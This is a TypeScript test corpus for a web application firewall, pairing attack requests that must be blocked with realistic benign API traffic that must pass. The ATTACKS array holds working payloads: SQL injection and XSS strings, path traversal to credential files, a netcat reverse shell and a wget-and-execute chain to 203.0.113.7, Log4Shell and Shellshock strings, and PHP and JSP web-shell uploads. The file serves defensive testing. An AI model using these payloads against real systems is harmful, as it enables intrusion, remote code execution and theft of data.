/**
 * The end-to-end corpora of the WAF: attacks that must be refused and realistic requests of the agent
 * platform's API that must pass. Every entry says why it is here. Independent of the rule patterns:
 * written from the attack classes of the guide and from what API clients really send.
 */
import type { CorpusEntry } from './client';

const JWT = 'eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCIsImtpZCI6ImZhY3RvcnktMjAyNiJ9.eyJzdWIiOiJ1c2VyXzQyIiwic2NvcGUiOiJhZ2VudHM6d3JpdGUgcnVuczpyZWFkIiwiZXhwIjoxOTAwMDAwMDAwfQ.c2lnbmF0dXJlLWJ5dGVzLWhlcmUtbm90LXJlYWxseS1hLXNpZ25hdHVyZQ';
const auth = { Authorization: `Bearer ${JWT}` };

/** A small but real PDF with a binary stream (bytes 0x80-0xff, NUL, CR/LF inside). */
export function samplePdf(): Buffer {
  const bin = Buffer.alloc(512);
  let x = 2463534242;
  for (let i = 0; i < bin.length; i++) { x ^= x << 13; x ^= x >>> 17; x ^= x << 5; bin[i] = (x >>> 0) & 0xff; }
  return Buffer.concat([
    Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>\nendobj\n4 0 obj\n<< /Length 512 /Filter /FlateDecode >>\nstream\n', 'latin1'),
    bin,
    Buffer.from('\nendstream\nendobj\nxref\n0 5\n0000000000 65535 f \ntrailer\n<< /Size 5 /Root 1 0 R >>\nstartxref\n9\n%%EOF\n', 'latin1'),
  ]);
}

const CSV = 'name,email,role,notes\n"O\'Brien, Siobhán",siobhan@example.ie,admin,"Select the best runs; drop the rest"\nJosé Müller,jose@example.de,viewer,"1 or 2 agents, not more"\n李雷,li.lei@example.cn,editor,Union rep\n';

export const ATTACKS: CorpusEntry[] = [
  // SQL injection
  { category: 'sqli', name: 'guide verification: tautology in a query parameter', why: 'The guide\'s own check: curl "/api/?id=1\' OR \'1\'=\'1" must be 403', path: "/api/?id=1'%20OR%20'1'='1" },
  { category: 'sqli', name: 'comment truncation of a login name', why: 'Classic authentication bypass admin\'-- in a form', method: 'POST', path: '/api/auth/login', headers: { 'Content-Type': 'application/x-www-form-urlencoded' }, body: "username=admin'--&password=x" },
  { category: 'sqli', name: 'UNION SELECT exfiltration', why: 'Data theft through UNION SELECT in a search parameter', path: '/api/search?q=1%20UNION%20SELECT%20username,password%20FROM%20users--' },
  { category: 'sqli', name: 'stacked DROP TABLE in JSON', why: 'Stacked query in a JSON field of an API body', method: 'POST', path: '/api/agents/query', headers: auth, json: { filter: "name = 'x'; DROP TABLE agents; --" } },
  { category: 'sqli', name: 'time-based blind injection', why: 'Blind SQLi via SLEEP() in a numeric id', path: '/api/runs?id=1%20AND%20SLEEP(5)' },
  { category: 'sqli', name: 'SQLi in a REST path segment', why: 'REST APIs carry ids in the path, where CRS PL1 does not look for SQL', path: "/api/agents/1'%20OR%20'1'='1" },
  { category: 'sqli', name: 'NoSQL operator injection on login', why: 'JSON {"$ne": null} bypasses password checks of document databases', method: 'POST', path: '/api/auth/login', json: { username: 'admin', password: { $ne: null } } },
  { category: 'sqli', name: 'SQLi in a cookie', why: 'Injection through a session cookie value', path: '/api/me', headers: { Cookie: "session=abc' OR 1=1--" } },
  { category: 'sqli', name: 'error-based extractvalue', why: 'Error-based SQLi reading the database version', path: '/api/items?sort=extractvalue(1,concat(0x7e,(select%20version())))' },
  // XSS
  { category: 'xss', name: 'script tag in a query', why: 'Reflected XSS with a script element', path: '/api/search?q=%3Cscript%3Ealert(1)%3C/script%3E' },
  { category: 'xss', name: 'img onerror in JSON', why: 'Stored XSS through an event handler in a profile field', method: 'PUT', path: '/api/users/42', headers: auth, json: { displayName: '<img src=x onerror=alert(document.cookie)>' } },
  { category: 'xss', name: 'javascript: URL as redirect target', why: 'XSS through a redirect/link parameter', path: '/api/auth/callback?redirect=javascript:alert(document.domain)' },
  { category: 'xss', name: 'attribute breakout with svg onload', why: 'Breaking out of an attribute into an SVG element', path: '/api/search?q=%22%3E%3Csvg/onload=alert(1)%3E' },
  { category: 'xss', name: 'script in the Referer header', why: 'XSS through a logged and displayed header', path: '/api/health', headers: { Referer: 'https://example.com/<script>alert(1)</script>' } },
  { category: 'xss', name: 'iframe with javascript src in PATCH', why: 'Stored XSS via a PATCH of an agent description', method: 'PATCH', path: '/api/agents/7', headers: { ...auth, 'Content-Type': 'application/merge-patch+json' }, body: JSON.stringify({ description: '<iframe src="javascript:alert(1)"></iframe>' }) },
  { category: 'xss', name: 'HTML-entity encoded handler', why: 'Entity encoding to evade naive filters', path: '/api/search?q=%3Cbody%20onload%3D%26%23x61%3Blert(1)%3E' },
  // Directory traversal
  { category: 'traversal', name: 'dot-dot-slash to /etc/passwd', why: 'Plain directory traversal in a file parameter', path: '/api/files?path=../../../../etc/passwd' },
  { category: 'traversal', name: 'encoded traversal in the path', why: 'Percent-encoded ../ inside the URL path', path: '/api/files/..%2f..%2f..%2fetc%2fpasswd' },
  { category: 'traversal', name: 'double-encoded traversal', why: 'Double encoding to slip past one decoding', path: '/api/files?name=%252e%252e%252f%252e%252e%252fetc%252fpasswd' },
  { category: 'traversal', name: 'backslash traversal to win.ini', why: 'Windows-style traversal', path: '/api/files?name=..%5c..%5c..%5cwindows%5cwin.ini' },
  { category: 'traversal', name: 'nested dot sequences', why: 'Filter evasion ....// that collapses to ../', path: '/api/files?name=....//....//....//etc/passwd' },
  // LFI / RFI
  { category: 'lfi-rfi', name: 'absolute path to /etc/shadow', why: 'Local file inclusion of a system file', path: '/api/templates?file=/etc/shadow' },
  { category: 'lfi-rfi', name: 'php://filter wrapper', why: 'LFI through a PHP stream wrapper', path: '/api/page?view=php://filter/convert.base64-encode/resource=index.php' },
  { category: 'lfi-rfi', name: 'remote include by IP', why: 'RFI from an attacker host addressed by IP', path: '/api/page?include=http://203.0.113.7/shell.txt?' },
  { category: 'lfi-rfi', name: 'file:// URL', why: 'LFI via a file URL in a fetch parameter', path: '/api/fetch?url=file:///etc/passwd' },
  { category: 'lfi-rfi', name: 'proc self environ', why: 'LFI reading the process environment (secrets)', path: '/api/logs?file=/proc/self/environ' },
  // Command injection
  { category: 'cmdi', name: 'semicolon then cat', why: 'Command chaining after a host parameter', path: '/api/tools/ping?host=127.0.0.1;cat%20/etc/passwd' },
  { category: 'cmdi', name: 'pipe to netcat in JSON', why: 'Reverse shell through a JSON tool argument', method: 'POST', path: '/api/tools/run', headers: auth, json: { target: 'example.com | nc 203.0.113.7 4444 -e /bin/sh' } },
  { category: 'cmdi', name: 'command substitution $(whoami)', why: 'Shell command substitution in a parameter', path: '/api/tools/lookup?domain=$(whoami).example.com' },
  { category: 'cmdi', name: 'backtick substitution', why: 'Backtick command substitution', path: '/api/tools/lookup?domain=%60id%60' },
  { category: 'cmdi', name: 'shellshock in User-Agent', why: 'CVE-2014-6271 function definition in a header', path: '/api/health', headers: { 'User-Agent': "() { :; }; /bin/bash -c 'cat /etc/passwd'" } },
  { category: 'cmdi', name: 'log4shell JNDI lookup in a header', why: 'CVE-2021-44228 in a header an app may log', path: '/api/health', headers: { 'X-Api-Version': '${jndi:ldap://203.0.113.7:1389/a}' } },
  { category: 'cmdi', name: 'wget and run', why: 'Download-and-execute chained with &&', method: 'POST', path: '/api/tools/run', headers: auth, json: { host: '8.8.8.8 && wget http://203.0.113.7/x.sh -O /tmp/x.sh && sh /tmp/x.sh' } },
  // Malicious uploads
  { category: 'upload', name: 'PHP web shell', why: 'Upload of a server-side script', method: 'POST', path: '/api/files', headers: auth, form: { files: [{ field: 'file', filename: 'shell.php', contentType: 'application/x-php', content: '<?php system($_GET["c"]); ?>' }] } },
  { category: 'upload', name: 'double extension', why: 'invoice.pdf.php passes a naive "contains .pdf" check', method: 'POST', path: '/api/files', headers: auth, form: { files: [{ field: 'file', filename: 'invoice.pdf.php', contentType: 'application/pdf', content: 'GIF89a<?php echo 1; ?>' }] } },
  { category: 'upload', name: 'JSP shell', why: 'Executable upload for Java servers', method: 'POST', path: '/api/files', headers: auth, form: { files: [{ field: 'file', filename: 'report.jsp', contentType: 'text/plain', content: '<% Runtime.getRuntime(); %>' }] } },
  { category: 'upload', name: 'path traversal in file name', why: 'Writing outside the upload folder via the file name', method: 'POST', path: '/api/files', headers: auth, form: { files: [{ field: 'file', filename: '../../../var/www/html/x.csv', contentType: 'text/csv', content: 'a,b\n1,2\n' }] } },
  { category: 'upload', name: '.htaccess upload', why: 'Hidden server config file that re-enables execution', method: 'POST', path: '/api/files', headers: auth, form: { files: [{ field: 'file', filename: '.htaccess', contentType: 'text/plain', content: 'AddType application/x-httpd-php .png' }] } },
  { category: 'upload', name: 'Windows executable', why: 'Malware upload with an .exe name', method: 'POST', path: '/api/files', headers: auth, form: { files: [{ field: 'file', filename: 'setup.exe', contentType: 'application/octet-stream', content: 'MZ\x90\x00' }] } },
  // HTTP protocol attacks
  { category: 'protocol', name: 'CRLF response splitting', why: 'Header injection through an encoded CR LF in a parameter', path: '/api/auth/callback?next=%0d%0aSet-Cookie:%20admin=true' },
  { category: 'protocol', name: 'request smuggling CL + TE', why: 'Both Content-Length and Transfer-Encoding (CL.TE desync)', raw: 'POST /api/runs HTTP/1.1\r\nHost: localhost\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG' },
  { category: 'protocol', name: 'NUL byte in the path', why: 'Null byte to truncate a file extension check', path: '/api/files/report.csv%00.php' },
  { category: 'protocol', name: 'HTTP/1.1 without Host', why: 'Protocol violation: HTTP/1.1 requires Host', raw: 'GET /api/health HTTP/1.1\r\nUser-Agent: x\r\n\r\n' },
  { category: 'protocol', name: 'content type not accepted by the API', why: 'Body in a content type the API does not speak (parser confusion)', method: 'POST', path: '/api/runs', headers: { 'Content-Type': 'application/x-java-serialized-object' }, body: '\xac\xed\x00\x05sr' },
  { category: 'protocol', name: 'TRACE method (cross-site tracing)', why: 'TRACE echoes the request, cookies and auth headers included (XST); nginx refuses it before ModSecurity runs', method: 'TRACE', path: '/api/health' },
  { category: 'protocol', name: 'CONNECT method (open proxy probe)', why: 'CONNECT probes for an open proxy to tunnel through the edge', raw: 'CONNECT 203.0.113.7:443 HTTP/1.1\r\nHost: 203.0.113.7:443\r\n\r\n' },
  { category: 'protocol', name: 'header folding smuggles a header', why: 'Obsolete line folding to hide a header from the WAF', raw: 'GET /api/health HTTP/1.1\r\nHost: localhost\r\nX-Foo: bar\r\n Transfer-Encoding: chunked\r\n\r\n' },
  // Scanners
  { category: 'scanner', name: 'sqlmap user agent', why: 'Automated SQL injection tool', path: '/api/items?id=1', headers: { 'User-Agent': 'sqlmap/1.7.2#stable (https://sqlmap.org)' } },
  { category: 'scanner', name: 'Nikto user agent', why: 'Web vulnerability scanner', path: '/', headers: { 'User-Agent': 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)' } },
  { category: 'scanner', name: 'nuclei user agent', why: 'Template-based vulnerability scanner', path: '/api/health', headers: { 'User-Agent': 'Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))' } },
  { category: 'scanner', name: 'ffuf fuzzer', why: 'Content discovery fuzzer', path: '/api/admin', headers: { 'User-Agent': 'Fuzz Faster U Fool v2.1.0' } },
  { category: 'scanner', name: 'probe for .env', why: 'Scanners probe for leaked environment files', path: '/.env' },
  { category: 'scanner', name: 'probe for .git/config', why: 'Scanners probe for exposed git metadata', path: '/.git/config' },
];

export const BENIGN: CorpusEntry[] = [
  { category: 'read', name: 'list agents with pagination', why: 'The most common call', path: '/api/agents?page=2&per_page=50', headers: auth },
  { category: 'read', name: 'search with SQL-like words', why: 'Users search for words such as select, union, drop', path: '/api/search?q=select%20union%20drop%20table%20tennis', headers: auth },
  { category: 'read', name: 'filter and sort expression', why: 'API filter syntax with colons and a minus sort', path: '/api/runs?filter=status:active,owner:me&sort=-created_at', headers: auth },
  { category: 'read', name: 'non-ASCII query', why: 'Searches in other scripts, percent-encoded UTF-8', path: '/api/search?q=%E6%9D%B1%E4%BA%AC%20M%C3%BCnchen%20%C5%81%C3%B3d%C5%BA', headers: auth },
  { category: 'read', name: 'get one run by UUID', why: 'Path ids are UUIDs', path: '/api/runs/5f0c1e8a-3b7d-4c1e-9a2f-0d6b8e4c7a11', headers: auth },
  { category: 'read', name: 'conditional GET with ETag', why: 'Caching clients send If-None-Match', path: '/api/agents/7', headers: { ...auth, 'If-None-Match': 'W/"a1b2c3"' } },
  { category: 'read', name: 'HEAD on a file', why: 'Clients check size before download', method: 'HEAD', path: '/api/files/report-2026-q3.pdf', headers: auth },
  { category: 'read', name: 'CORS preflight', why: 'Browsers send OPTIONS before a cross-origin PATCH', method: 'OPTIONS', path: '/api/agents/7', headers: { Origin: 'https://app.factory.example.com', 'Access-Control-Request-Method': 'PATCH', 'Access-Control-Request-Headers': 'authorization,content-type' } },
  { category: 'read', name: 'dashboard page', why: 'The dashboard is served outside /api', path: '/dashboard/runs?tab=failed', headers: { 'User-Agent': 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0', Accept: 'text/html,application/xhtml+xml', 'Accept-Language': 'pt-BR,pt;q=0.9,en;q=0.8' } },
  { category: 'read', name: 'health check', why: 'Load balancers poll it', path: '/api/health', headers: { 'User-Agent': 'kube-probe/1.30' } },
  { category: 'read', name: 'date range query', why: 'ISO timestamps with colons and plus signs', path: '/api/metrics?from=2026-01-01T00:00:00%2B01:00&to=2026-01-31T23:59:59Z&step=1h', headers: auth },
  { category: 'read', name: 'curl client', why: 'Operators script the API with curl', path: '/api/agents?status=idle', headers: { ...auth, 'User-Agent': 'curl/8.5.0' } },
  { category: 'read', name: 'python requests client', why: 'SDK users in Python', path: '/api/agents?owner=me', headers: { ...auth, 'User-Agent': 'python-requests/2.32.3' } },
  { category: 'write', name: 'create an agent with apostrophes', why: 'Prose with apostrophes and names like O\'Brien', method: 'POST', path: '/api/agents', headers: auth, json: { name: "O'Brien's helper", description: "It's the team's agent: don't let it run overnight; it'll summarise Siobhán's notes." } },
  { category: 'write', name: 'prompt with SQL-like prose', why: 'Prompts talk about selecting, dropping and joining things', method: 'POST', path: '/api/runs', headers: auth, json: { agent: 7, prompt: "Select the best three candidates from the table, drop the ones where the score is below 5, then update the summary and insert a short note for Ana's review." } },
  { category: 'write', name: 'prompt mentioning "1 or 2"', why: 'Numbers joined by or/and in plain English', method: 'POST', path: '/api/runs', headers: auth, json: { agent: 3, prompt: "Pick 1 or 2 reports, and 3 and 4 only if they're relevant; where's the Q3 union agreement?" } },
  { category: 'write', name: 'markdown with inline code', why: 'Agents exchange markdown with backticks and code fences', method: 'POST', path: '/api/notes', headers: auth, json: { body: '## Steps\n1. Run `npm test` and check the **output**.\n2. If it fails, open `README.md` and read the *Setup* section.\n\n```\nconst total = items.reduce((a, b) => a + b, 0);\n```' } },
  { category: 'write', name: 'non-ASCII names', why: 'International users and content', method: 'POST', path: '/api/users', headers: auth, json: { name: 'José Müller-Łukasiewicz', city: '東京', bio: 'Ελληνικά, русский, العربية, emoji 🚀✨' } },
  { category: 'write', name: 'URLs in a webhook config', why: 'Webhook targets are URLs with queries', method: 'POST', path: '/api/webhooks', headers: auth, json: { url: 'https://hooks.example.com/services/T000/B000?token=abc&channel=%23ops', events: ['run.completed', 'run.failed'] } },
  { category: 'write', name: 'email addresses with plus', why: 'Plus-addressing in invitations', method: 'POST', path: '/api/invitations', headers: auth, json: { emails: ['ana+factory@example.com', 'li.lei@example.cn'], role: 'editor' } },
  { category: 'write', name: 'nested JSON settings', why: 'Deep objects, arrays, numbers, booleans and null', method: 'PUT', path: '/api/agents/7/settings', headers: auth, json: { model: { temperature: 0.2, max_tokens: 4096 }, tools: [{ name: 'search', enabled: true }, { name: 'calculator', enabled: false }], schedule: null } },
  { category: 'write', name: 'PATCH with merge-patch+json', why: 'RFC 7396 partial update', method: 'PATCH', path: '/api/agents/7', headers: { ...auth, 'Content-Type': 'application/merge-patch+json' }, body: JSON.stringify({ description: "Handles the client's invoices and the partners' questions." }) },
  { category: 'write', name: 'PATCH with json-patch+json', why: 'RFC 6902 operations (paths with slashes)', method: 'PATCH', path: '/api/agents/7', headers: { ...auth, 'Content-Type': 'application/json-patch+json' }, body: JSON.stringify([{ op: 'replace', path: '/tools/0/enabled', value: false }, { op: 'remove', path: '/tags/1' }]) },
  { category: 'write', name: 'DELETE an agent', why: 'The API deletes resources', method: 'DELETE', path: '/api/agents/7', headers: auth },
  { category: 'write', name: 'DELETE with a query', why: 'Bulk deletion by filter', method: 'DELETE', path: '/api/runs?status=failed&before=2026-01-01', headers: auth },
  { category: 'write', name: 'PUT replace a document', why: 'Full replacement of a prompt template', method: 'PUT', path: '/api/templates/weekly-report', headers: auth, json: { title: 'Weekly report', text: 'Summarise what changed since {{last_run}} and list who\'s blocked (if anyone).' } },
  { category: 'write', name: 'form-encoded feedback', why: 'Classic HTML forms post url-encoded prose', method: 'POST', path: '/api/feedback', headers: { ...auth, 'Content-Type': 'application/x-www-form-urlencoded' }, body: 'rating=4&comment=Great+tool%2C+but+I+couldn%27t+find+where+to+select+the+model+%26+drop+old+runs.' },
  { category: 'write', name: 'prose with semicolons and ampersands', why: 'Normal punctuation around words like cat, id, echo', method: 'POST', path: '/api/notes', headers: auth, json: { body: 'Bring the cat & dog photos, the ID badges are at the desk; the echo in room 3 is annoying & loud.' } },
  { category: 'write', name: 'prose about files and paths', why: 'Users mention relative folders and file names', method: 'POST', path: '/api/notes', headers: auth, json: { body: 'The report is in reports/2026/q3-summary.csv; the slides are in the shared drive under Sales > Decks.' } },
  { category: 'write', name: 'comparison operators in prose', why: 'Math and comparisons such as <5 and >= 10', method: 'POST', path: '/api/notes', headers: auth, json: { body: 'Alert when latency > 300 ms or errors >= 10 per minute; ignore if count < 5.' } },
  { category: 'write', name: 'long text body', why: 'Agents post long documents', method: 'POST', path: '/api/documents', headers: auth, json: { title: 'Minutes', text: "We discussed the roadmap. Ana said we'd ship in May; Li Lei wasn't sure. ".repeat(60) } },
  { category: 'write', name: 'ndjson batch', why: 'Batch ingestion as newline-delimited JSON', method: 'POST', path: '/api/events/batch', headers: { ...auth, 'Content-Type': 'application/x-ndjson' }, body: '{"event":"run.started","id":1}\n{"event":"run.completed","id":1}\n' },
  { category: 'auth', name: 'login with JSON credentials', why: 'Passwords contain symbols', method: 'POST', path: '/api/auth/login', json: { email: 'ana@example.com', password: 'c0rrect-H0rse!battery#Staple' } },
  { category: 'auth', name: 'token refresh', why: 'Clients refresh tokens', method: 'POST', path: '/api/auth/refresh', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ refresh_token: 'rt_9f8e7d6c5b4a3928171615141312111009' }) },
  { category: 'auth', name: 'logout with bearer token', why: 'Bearer tokens are long base64url strings', method: 'POST', path: '/api/auth/logout', headers: auth },
  { category: 'upload', name: 'CSV upload', why: 'Users upload spreadsheets (quotes, commas, non-ASCII)', method: 'POST', path: '/api/files', headers: auth, form: { fields: { description: "Q3 contacts (Siobhán's list)" }, files: [{ field: 'file', filename: 'contacts-q3.csv', contentType: 'text/csv', content: CSV }] } },
  { category: 'upload', name: 'PDF upload', why: 'Binary PDF documents', method: 'POST', path: '/api/files', headers: auth, form: { files: [{ field: 'file', filename: 'Relatório anual 2026.pdf', contentType: 'application/pdf', content: samplePdf() }] } },
  { category: 'upload', name: 'two files at once', why: 'Multiple parts in one upload', method: 'POST', path: '/api/files', headers: auth, form: { fields: { folder: 'reports' }, files: [{ field: 'files', filename: 'a.csv', contentType: 'text/csv', content: 'x,y\n1,2\n' }, { field: 'files', filename: 'b.pdf', contentType: 'application/pdf', content: samplePdf() }] } },
  { category: 'upload', name: 'raw CSV PUT', why: 'Uploading a dataset as the raw body', method: 'PUT', path: '/api/datasets/contacts', headers: { ...auth, 'Content-Type': 'text/csv' }, body: CSV },
  { category: 'upload', name: 'raw PDF PUT', why: 'Binary body with application/pdf', method: 'PUT', path: '/api/files/report.pdf', headers: { ...auth, 'Content-Type': 'application/pdf' }, body: samplePdf() },
  { category: 'upload', name: 'image upload', why: 'Avatars are PNG files', method: 'POST', path: '/api/users/42/avatar', headers: auth, form: { files: [{ field: 'avatar', filename: 'me.png', contentType: 'image/png', content: Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489', 'hex') }] } },
  { category: 'write', name: 'Q&A prose with quotes', why: 'Quoted speech, ampersands and question marks', method: 'POST', path: '/api/notes', headers: auth, json: { body: 'Q&A: "Can we select a different model?" - "Yes, and we\'ll drop the old one." Thanks & regards, Zoë' } },
];
